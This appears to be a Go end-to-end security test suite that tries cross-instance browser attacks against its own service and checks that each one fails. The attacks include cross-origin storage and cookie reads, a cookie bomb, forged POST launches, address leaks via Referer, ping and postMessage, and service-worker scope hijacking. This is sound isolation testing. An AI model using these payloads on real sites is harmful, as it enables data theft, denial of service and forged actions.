//go:build e2e

package origins

import (
	"fmt"
	"strings"
)

// secret is what the victim keeps: a cookie, and what its storages are called.
const secret = "secret=s3cret"

// attack is what a hostile instance tries on a visitor who has it and another instance,
// the victim, in the same browser.
type attack struct {
	name      string // the row of docs/security.md
	succeeded func(a *arena) bool
}

// attacks are all attacks. The pages of the hostile instance know the victim's address,
// which they need for some: so a row says what else stands in the way.
func attacks() []attack {
	var all []attack
	for _, group := range [][]attack{dataAttacks(), windowAttacks(), cookieAttacks(), launchAttacks(), addressAttacks(), workerAttacks()} {
		all = append(all, group...)
	}
	return all
}

// inWindow opens an address in a window, and evaluates an expression with it, window,
// until it is true or time is up.
func inWindow(address, met string) string {
	return fmt.Sprintf(`new Promise((resolve) => {
		const opened = open('%s');
		const end = Date.now() + %d;
		const look = () => {
			let met = false;
			try { met = Boolean(%s); } catch {}
			if (!met && Date.now() < end) { setTimeout(look, 50); return; }
			opened.close();
			resolve(met);
		};
		look();
	})`, address, settle.Milliseconds(), met)
}

// inFrame shows an address in a frame, and evaluates an expression with it.
func inFrame(address, expression string) string {
	return fmt.Sprintf(`new Promise((resolve) => {
		const frame = document.createElement('iframe');
		frame.onload = () => { try { resolve(%s); } catch (e) { resolve('error: ' + e); } };
		frame.src = '%s';
		document.body.append(frame);
	})`, expression, address)
}

// dataAttacks are on what the browser keeps for the victim's pages, and what they say.
func dataAttacks() []attack {
	reads := func(expression string) func(*arena) bool {
		return func(a *arena) bool { return strings.Contains(a.at(a.url(a.attacker, "page"), expression), secret) }
	}
	return []attack{
		{"read the local storage of another instance", reads(`localStorage.getItem('place')`)},
		{"find its databases", reads(`indexedDB.databases().then((all) => all.map((each) => each.name).join())`)},
		{"find its stored answers (Cache Storage)", reads(`caches.keys().then((all) => all.join())`)},
		{"hear what its pages tell one another (BroadcastChannel)", func(a *arena) bool {
			says := a.running(a.victim, `setInterval(() => new BroadcastChannel('c').postMessage('`+secret+`'), 50)`)
			return a.at(a.url(a.attacker, "page"), `(() => {
				let heard = false;
				new BroadcastChannel('c').onmessage = (event) => { heard = event.data === '`+secret+`'; };
				return `+inWindow(says, "heard")+`;
			})()`) == "true"
		}},
		{"clear its data (Clear-Site-Data)", func(a *arena) bool {
			a.open(a.answer(a.attacker, `Clear-Site-Data: "*"`))
			return a.at(a.url(a.victim, "echo"), `document.body.innerText + localStorage.getItem('place')`) != secret+secret
		}},
	}
}

// windowAttacks are on the victim's pages.
func windowAttacks() []attack {
	return []attack{
		{"read its pages by a request", func(a *arena) bool {
			return strings.Contains(a.at(a.url(a.attacker, "page"), `fetch('`+a.url(a.victim, "page")+`').then((r) => r.text())`), "<h1>page")
		}},
		{"reach into its page in a frame", func(a *arena) bool {
			return a.at(a.url(a.attacker, "page"), inFrame(a.url(a.victim, "page"), `frame.contentDocument.title`)) == "page"
		}},
		{"reach into its page in a window", func(a *arena) bool {
			return a.at(a.url(a.attacker, "page"), inWindow(a.url(a.victim, "page"), `opened.document.title === 'page'`)) == "true"
		}},
		{"reach into the page that opened it", func(a *arena) bool {
			hostile := a.running(a.attacker, `opener.document.title = 'reached'`)
			return a.at(a.url(a.victim, "page"), inWindow(hostile, `document.title === 'reached'`)) == "true"
		}},
		{"lead the page that opened it elsewhere", func(a *arena) bool {
			a.open(a.url(a.victim, "page"))
			a.js(`(() => { open('` + a.running(a.attacker, `opener.location = '`+a.url(a.attacker, "led")+`'`) + `'); })()`)
			return a.arrives("/led")
		}},
		{"reach into the launch page in a window", func(a *arena) bool {
			return a.at(a.url(a.attacker, "page"), inWindow(a.main("/launch/nowhere"), `opened.document.title.startsWith('There is no')`)) == "true"
		}},
	}
}

// bomb sets 480 KB of cookies, as widely as the browser lets it. They are fewer than 180, as
// of more the browser would forget some.
func bomb(a *arena) {
	a.at(a.url(a.attacker, "page"), fmt.Sprintf(`(() => {
		for (let i = 0; i < 60; i++) {
			const cookie = 'filler' + i + '=' + 'x'.repeat(4000) + '; path=/';
			document.cookie = cookie;
			document.cookie = cookie + '; domain=%s';
		}
	})()`, a.parent()))
}

// cookieAttacks are on the victim's cookies.
func cookieAttacks() []attack {
	echo := func(a *arena) string { return a.at(a.url(a.victim, "echo"), `document.body.innerText`) }
	return []attack{
		{"read its cookies", func(a *arena) bool {
			inVictim := inFrame(a.url(a.victim, "page"), `document.cookie + frame.contentDocument.cookie`)
			return strings.Contains(a.at(a.url(a.attacker, "page"), inVictim), secret)
		}},
		{"give it a cookie by a script", func(a *arena) bool {
			a.at(a.url(a.attacker, "page"), `document.cookie = 'given=1; path=/'`)
			a.js(`document.cookie = 'given=1; path=/; domain=` + a.parent() + `'`)
			return strings.Contains(echo(a), "given=1")
		}},
		{"give it a cookie by an answer", func(a *arena) bool {
			a.open(a.answer(a.attacker, "Set-Cookie: given=1; Path=/", "Set-Cookie: given=1; Path=/; Domain="+a.parent()))
			return strings.Contains(echo(a), "given=1")
		}},
		{"shut the visitor out of it, by cookies", func(a *arena) bool {
			bomb(a)
			return !strings.HasPrefix(echo(a), secret)
		}},
		{"shut the visitor out of the launch page, by cookies", func(a *arena) bool {
			bomb(a)
			return !strings.HasPrefix(a.at(a.main("/launch/nowhere"), `document.title`), "There is no")
		}},
	}
}

// launchAttacks launch in the visitor's name.
func launchAttacks() []attack {
	posts := func(address func(*arena) string, body string) func(*arena) bool {
		return func(a *arena) bool {
			a.open(a.url(a.attacker, "page"))
			return a.launches(settle, func() {
				a.js(`fetch('` + address(a) + `', { method: 'POST', mode: 'no-cors', headers: { 'Content-Type': 'text/plain' }, body: '` + body + `' })`)
			})
		}
	}
	return []attack{
		{"launch by a request to the launch page", posts(func(a *arena) string { return a.main("/launch/" + template) }, "")},
		{"launch by a request to the API", posts(func(a *arena) string { return "http://" + a.api + "/applications/" }, `{"template-name": "`+template+`"}`)},
		{"launch by the launch page in a frame", func(a *arena) bool {
			a.open(a.url(a.attacker, "page"))
			return a.launches(settle, func() { a.js(inFrame(a.main("/launch/"+template), `''`)) })
		}},
		{"launch by the launch page in a window of its own", func(a *arena) bool {
			a.open(a.url(a.attacker, "page"))
			defer a.js(`opened.close()`)
			return a.launches(patience, func() { a.js(`(() => { window.opened = open('` + a.main("/launch/"+template) + `'); })()`) })
		}},
	}
}

// addressAttacks find out the victim's address, and so its id.
func addressAttacks() []attack {
	return []attack{
		{"learn its address from the fields of a request (Referer, Origin, Ping-From)", func(a *arena) bool {
			to := a.url(a.attacker, "asked")
			a.at(a.url(a.victim, "page"), `(async () => {
				const policy = { referrerPolicy: 'unsafe-url' };
				for (const mode of ['cors', 'no-cors']) await fetch('`+to+`?' + mode, { mode, method: 'POST', ...policy }).catch(() => 0);
				const link = Object.assign(document.createElement('a'), { href: '#', ping: '`+to+`?ping', ...policy });
				link.click();
				await new Promise((resolve) => { const socket = new WebSocket('`+to+`?socket'); socket.onerror = socket.onopen = resolve; });
			})()`)
			asked := func() bool { return strings.Contains(a.app.got(a.attacker), "Ping-To:") }
			if !a.within(settle, func() bool { return strings.Contains(a.app.got(a.attacker), a.victim) }) && !asked() && a.mode.domain == "" {
				a.t.Error("no ping has arrived")
			}
			return strings.Contains(a.app.got(a.attacker), a.victim)
		}},
		{"learn its address from a link that leads from it (document.referrer)", func(a *arena) bool {
			a.open(a.url(a.victim, "page"))
			a.js(`(() => { location.href = '` + a.url(a.attacker, "led") + `'; })()`)
			a.arrives("/led")
			return strings.Contains(a.js(`document.referrer`), a.victim)
		}},
		{"learn its address from the launch page, which leads its visitor back to it", func(a *arena) bool {
			launch := a.main("/launch/" + template)
			a.open(launch) // the browser remembers the instance
			if !a.within(patience, func() bool { return a.heading() == "page" }) {
				a.t.Errorf("%s: the launch page has not launched: %q", a.mode.name, a.heading())
			}
			id := strings.Split(a.js(`location.pathname`), "/")[2]
			a.open(a.answer(a.attacker, "Cross-Origin-Opener-Policy: same-origin")) // the launch page has it too
			if strings.Contains(a.js(`fetch('`+launch+`').then((r) => r.text()).catch(() => '')`), id) {
				return true
			}
			return a.js(inWindow(launch, `opened.document.documentElement.innerHTML.includes('`+id+`')`)) == "true"
		}},
		{"learn its address in a frame of it", func(a *arena) bool {
			hostile := a.running(a.attacker, `
				let above = '';
				try { above = parent.location.href; } catch { above = [...(location.ancestorOrigins || [])].join(); }
				parent.postMessage(above, '*');`)
			return strings.Contains(a.at(a.url(a.victim, "page"), `new Promise((resolve) => {
				addEventListener('message', (event) => resolve(event.data));
				const frame = document.createElement('iframe');
				frame.src = `+"`"+hostile+"`"+`;
				document.body.append(frame);
			})`), a.victim)
		}},
		{"learn its address from the browser's list of service workers", func(a *arena) bool {
			a.at(a.url(a.victim, "page"), `navigator.serviceWorker.register('sw.js', { scope: 'far/' })`)
			return strings.Contains(a.at(a.url(a.attacker, "page"), `navigator.serviceWorker.getRegistrations().then((all) => all.map((each) => each.scope).join())`), a.victim)
		}},
		{"have the browser report its address (NEL)", func(a *arena) bool {
			policy := a.answer(a.attacker, `NEL: {"report_to": "x", "max_age": 9}`, `Report-To: {"group": "x", "max_age": 9, "endpoints": []}`)
			arrives := a.at(a.url(a.attacker, "page"), `fetch('`+policy+`').then((r) => r.headers.get('NEL'))`) != "null"
			return arrives && a.js(`origin`) == a.at(a.url(a.victim, "page"), `origin`)
		}},
	}
}

// workerAttacks use service workers.
func workerAttacks() []attack {
	// outlives reports whether pages of an instance that has ended come from its worker.
	outlives := func(a *arena) bool {
		id := a.launch()
		a.at(a.url(id, "page"), `navigator.serviceWorker.register('sw.js').then(() => navigator.serviceWorker.ready)`)
		a.stop(id)
		return a.at(a.url(id, "page"), `document.title`) == "worker"
	}
	return []attack{
		{"answer for it by a service worker", func(a *arena) bool {
			a.at(a.url(a.attacker, "page"), `navigator.serviceWorker.register('sw.js?h=Service-Worker-Allowed:/', { scope: '/' }).then(() => navigator.serviceWorker.ready)`)
			title := a.at(a.url(a.victim, "page"), `document.title`)
			a.at(a.url(a.attacker, "echo"), `navigator.serviceWorker.getRegistrations().then((all) => Promise.all(all.map((each) => each.unregister())))`)
			return title == "worker"
		}},
		{"show pages after its own end, by a service worker", outlives},
		{"launch after its own end, by a service worker", func(a *arena) bool {
			return outlives(a) && a.launches(settle, func() { a.js(`fetch('` + a.main("/launch/"+template) + `', { method: 'POST', mode: 'no-cors' })`) })
		}},
	}
}
